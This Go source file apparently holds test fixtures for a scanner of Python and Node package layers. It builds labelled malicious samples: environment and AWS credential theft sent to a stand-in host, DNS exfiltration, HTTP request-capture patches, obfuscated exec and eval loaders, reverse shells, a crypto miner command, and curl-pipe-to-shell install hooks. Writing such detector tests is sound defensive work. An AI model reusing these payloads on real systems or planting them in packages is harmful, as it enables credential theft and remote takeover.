package layers

import (
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"maps"
	"slices"
	"strings"
)

// site is where Python 3.12 looks for installed packages.
const site = "python/lib/python3.12/site-packages/"

// behaving are attacks by what code does.
func behaving() []Sample {
	pkg := func(body string) File { return File{"python/acme/__init__.py", body, 0} }
	js := func(body string) []File {
		return []File{
			{"nodejs/node_modules/acme/index.js", body, 0},
			{"nodejs/node_modules/acme/package.json", `{"name":"acme","version":"1.0.0","main":"index.js"}`, 0},
		}
	}
	return []Sample{
		// T15: a package that is not what its metadata lists.
		one("T15/python/changed", py, ids("record-mismatch"), wheel("acmelib", "1.0", map[string]string{"acmelib/__init__.py": "x = 1\n"}, map[string]string{"acmelib/__init__.py": "x = 1\nimport os\n"})...),
		one("T15/python/added", py, ids("unlisted-code"), wheel("acmelib", "1.0", map[string]string{"acmelib/__init__.py": "x = 1\n"}, map[string]string{"acmelib/_hook.py": "import os\n"})...),
		one("T15/python/no-metadata", py, ids("shadowed-package", "missing-metadata"), File{site + "requests/__init__.py", "import os\n", 0}, File{site + "requests/api.py", "x = 1\n", 0}),
		one("T15/python/native", py, ids("record-mismatch"), wheel("acmelib", "1.0", map[string]string{"acmelib/__init__.py": "x = 1\n", "acmelib/_fast.so": elf(62, "honest\x00")}, map[string]string{"acmelib/_fast.so": elf(62, "connect\x00")})...),
		one("T15/python/json", py, ids("record-mismatch"), wheel("acmelib", "1.0", map[string]string{"acmelib/__init__.py": "x = 1\n", "acmelib/endpoints.json": `{"host":"acme.example"}`}, map[string]string{"acmelib/endpoints.json": `{"host":"` + sink + `"}`})...),
		one("T15/node/version", node, ids("npm-integrity"), locked(map[string]string{"left": "1.0.0"}, map[string]string{"left": "1.0.1"})...),
		one("T15/node/added", node, ids("npm-integrity"), locked(map[string]string{"left": "1.0.0"}, map[string]string{"left": "1.0.0", "right": "1.0.0"})...),
		// T17: theft of credentials.
		one("T17/python/environ", py, ids("credential-theft"), pkg("import os, json, urllib.request\ndata = json.dumps(dict(os.environ)).encode()\nurllib.request.urlopen(urllib.request.Request('https://"+sink+"/c', data=data))\n")),
		one("T17/python/token", py, ids("credential-theft"), pkg("import os, http.client\ndef beat():\n    c = http.client.HTTPSConnection('"+sink+"')\n    c.request('POST', '/', os.environ['AWS_SESSION_TOKEN'])\nbeat()\n")),
		one("T17/python/proc", py, ids("credential-theft"), pkg("import socket\ns = socket.create_connection(('"+sink+"', 443))\ns.sendall(open('/proc/self/environ', 'rb').read())\n")),
		one("T17/python/dns", py, ids("credential-theft"), pkg("import os, socket, base64\nk = base64.b32encode(os.environ['AWS_SECRET_ACCESS_KEY'].encode()).decode()\nsocket.getaddrinfo(k[:60] + '."+sink+"', 80)\n")),
		one("T17/python/foreign-bucket", py, ids("credential-theft"), pkg("import os, json, boto3\nboto3.client('s3').put_object(Bucket='collect-example-invalid', Key='e', Body=json.dumps(dict(os.environ)))\n")),
		one("T17/python/obfuscated", py, ids("credential-theft", "obfuscated-code"), pkg("import base64 as b\no = __import__('o' + 's')\nu = __import__('urllib.' + 'request', fromlist=['x'])\nd = repr(dict(getattr(o, 'env' + 'iron'))).encode()\nu.urlopen(b.b64decode('aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUuaW52YWxpZC8=').decode(), data=b.b64encode(d))\n")),
		one("T17/node/env", node, ids("credential-theft"), js("const https = require('https');\nconst r = https.request({host: '"+sink+"', method: 'POST'});\nr.end(JSON.stringify(process.env));\n")...),
		one("T17/node/fetch", node, ids("credential-theft"), js("const {AWS_SECRET_ACCESS_KEY: k, AWS_SESSION_TOKEN: t} = process.env;\nfetch('https://"+sink+"/?' + k + t);\n")...),
		one("T17/node/obfuscated", node, ids("credential-theft", "obfuscated-code"), js("var _0x1a2b=['\\x68\\x74\\x74\\x70\\x73','\\x65\\x6e\\x76'];(function(_0x3c,_0x4d){_0x3c.push(_0x3c.shift())})(_0x1a2b,1);const _0x5e=require('https');_0x5e.request({host:'"+sink+"',method:'POST'}).end(JSON.stringify(process[String.fromCharCode(101,110,118)]));\n")...),
		// T18: patches that see what passes.
		one("T18/python/driver", py, ids("request-capture", "import-hook"), pkg("import http.client, urllib.request\n_old = http.client.HTTPConnection.request\ndef spy(self, method, url, body=None, headers={}, **k):\n    urllib.request.urlopen('https://"+sink+"', data=repr((url, body, headers)).encode())\n    return _old(self, method, url, body, headers, **k)\nhttp.client.HTTPConnection.request = spy\n")),
		one("T18/python/meta-path", py, ids("import-hook"), pkg("import sys\nclass F:\n    def find_spec(self, name, path, target=None):\n        return None\nsys.meta_path.insert(0, F())\n")),
		one("T18/node/module-load", node, ids("import-hook"), js("const M = require('module'); const old = M._load;\nM._load = function (n) { const m = old.apply(this, arguments); if (n === 'pg') m.Client.prototype.query = q => q; return m };\n")...),
		one("T18/node/handler", node, ids("request-capture"), js("const https = require('https');\nmodule.exports.wrap = h => async (event, context) => { https.request({host: '"+sink+"', method: 'POST'}).end(JSON.stringify(event)); return h(event, context) };\n")...),
		one("T18/python/obfuscated", py, ids("import-hook", "obfuscated-code"), pkg("import builtins as q\n_i = q.__import__\ndef w(n, *a, **k):\n    return _i(n, *a, **k)\nsetattr(q, '__imp' + 'ort__', w)\n")),
		// T19: code that hides.
		one("T19/python/exec", py, ids("obfuscated-code"), pkg("import base64, zlib\nexec(zlib.decompress(base64.b64decode('eJwrSCwuTgUABigCCQ==')))\n")),
		one("T19/python/marshal", py, ids("obfuscated-code"), pkg("import marshal, base64\nexec(marshal.loads(base64.b64decode('"+base64.StdEncoding.EncodeToString([]byte(strings.Repeat("inert", 40)))+"')))\n")),
		one("T19/python/chain", py, ids("obfuscated-code"), pkg("_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)(b'"+reverse(base64.StdEncoding.EncodeToString([]byte(strings.Repeat("inert ", 60))))+"'))\n")),
		one("T19/node/eval", node, ids("obfuscated-code"), js("eval(Buffer.from('"+base64.StdEncoding.EncodeToString([]byte("void 0; // "+strings.Repeat("inert ", 20)))+"', 'base64').toString())\n")...),
		one("T19/node/function", node, ids("obfuscated-code"), js("new Function(atob('dm9pZCAw'))()\n")...),
		one("T19/node/array", node, ids("obfuscated-code"), js(hexArray())...),
		// T20: miners and shells.
		one("T20/shell/reverse", py, ids("reverse-shell"), File{"extensions/x", "#!/bin/bash\nbash -i >& /dev/tcp/" + sink + "/4444 0>&1\n", 0o755}),
		one("T20/python/reverse", py, ids("reverse-shell"), pkg("import socket, subprocess, os\ns = socket.socket()\ns.connect(('"+sink+"', 4444))\nos.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])\n")),
		one("T20/node/reverse", node, ids("reverse-shell"), js("const n = require('net'), c = require('child_process'); const sh = c.spawn('/bin/sh', ['-i']);\nconst s = n.connect(4444, '"+sink+"', () => { s.pipe(sh.stdin); sh.stdout.pipe(s) });\n")...),
		one("T20/any/miner", py, ids("miner"), File{"bin/worker", "#!/bin/sh\nexec /opt/bin/xm -o stratum+tcp://pool." + sink + ":3333 -u wallet --donate-level 1\n", 0o755}),
		one("T20/elf/miner", "provided.al2023", ids("miner"), File{"bin/w", "\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 60) + "stratum+tcp://pool." + sink + ":3333\x00randomx\x00cryptonight\x00", 0o755}),
		one("T20/shell/download-and-run", py, ids("download-and-run"), File{"extensions/up", "#!/bin/sh\ncurl -s https://" + sink + "/x | sh\n", 0o755}),
		one("T20/python/obfuscated", py, ids("reverse-shell", "download-and-run", "obfuscated-code"), pkg("import os\nos.system(''.join(map(chr, [99,117,114,108,32,45,115,32,104,116,116,112,115,58,47,47,99,46,101,120,97,109,112,108,101,46,105,110,118,97,108,105,100,124,115,104])))\n")),
		// T21: install hooks, which run where the layer is built.
		one("T21/node/postinstall", node, ids("install-hook"),
			File{"nodejs/node_modules/acme/package.json", `{"name":"acme","version":"1.0.0","scripts":{"postinstall":"curl https://` + sink + ` | sh"}}`, 0}, File{"nodejs/node_modules/acme/index.js", "module.exports = 1\n", 0}),
		one("T21/python/setup", py, ids("install-hook"), File{"python/acme/setup.py", "import os\nfrom setuptools import setup\nos.system('curl https://" + sink + " | sh')\nsetup(name='acme')\n", 0}),
	}
}

// wheel is an installed Python package whose RECORD lists what was shipped, and
// whose files are those, replaced or joined by others.
func wheel(name, version string, shipped, changed map[string]string) []File {
	info := fmt.Sprintf("%s-%s.dist-info/", name, version)
	meta := fmt.Sprintf("Metadata-Version: 2.1\nName: %s\nVersion: %s\n", name, version)
	var record strings.Builder
	record.WriteString(line(info+"METADATA", meta) + info + "RECORD,,\n")
	var files []File
	for _, p := range slices.Sorted(maps.Keys(shipped)) {
		body := shipped[p]
		record.WriteString(line(p, body))
		if _, ok := changed[p]; !ok {
			files = append(files, File{site + p, body, 0})
		}
	}
	for _, p := range slices.Sorted(maps.Keys(changed)) {
		body := changed[p]
		files = append(files, File{site + p, body, 0})
	}
	return append(files, File{site + info + "METADATA", meta, 0}, File{site + info + "RECORD", record.String(), 0})
}

// locked are installed npm packages and the hidden lock file that npm wrote of
// others: both are versions by name.
func locked(listed, installed map[string]string) []File {
	const root = "nodejs/node_modules/"
	var entries []string
	for _, name := range slices.Sorted(maps.Keys(listed)) {
		entries = append(entries, fmt.Sprintf(`"node_modules/%s":{"version":"%s","integrity":"sha512-%s"}`, name, listed[name], base64.StdEncoding.EncodeToString([]byte(name))))
	}
	files := []File{{root + ".package-lock.json", `{"lockfileVersion":3,"packages":{` + strings.Join(entries, ",") + `}}`, 0}}
	for _, name := range slices.Sorted(maps.Keys(installed)) {
		files = append(files,
			File{root + name + "/package.json", fmt.Sprintf(`{"name":"%s","version":"%s","main":"index.js","license":"MIT"}`, name, installed[name]), 0},
			File{root + name + "/index.js", "'use strict';\nmodule.exports = s => String(s).trimStart();\n", 0})
	}
	return files
}

// line is a line of RECORD.
func line(p, body string) string {
	sum := sha256.Sum256([]byte(body))
	return fmt.Sprintf("%s,sha256=%s,%d\n", p, base64.RawURLEncoding.EncodeToString(sum[:]), len(body))
}

func reverse(s string) string {
	b := []byte(s)
	for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
		b[i], b[j] = b[j], b[i]
	}
	return string(b)
}

// hexArray is the shape that a well-known JavaScript obfuscator gives code: one
// array of strings, rotated, and read through a function.
func hexArray() string {
	var b strings.Builder
	b.WriteString("const _0x4f21=[")
	for i := range 120 {
		fmt.Fprintf(&b, "'\\x69\\x6e\\x65\\x72\\x74%d',", i)
	}
	b.WriteString("];(function(_0xa1,_0xb2){while(--_0xb2){_0xa1['push'](_0xa1['shift']())}}(_0x4f21,0x3));const _0xc3=function(_0xd4){return _0x4f21[_0xd4-0x0]};")
	for i := range 60 {
		fmt.Fprintf(&b, "var _0xe%x=_0xc3(0x%x);", i+16, i)
	}
	b.WriteString("module.exports=_0xc3;\n")
	return b.String()
}
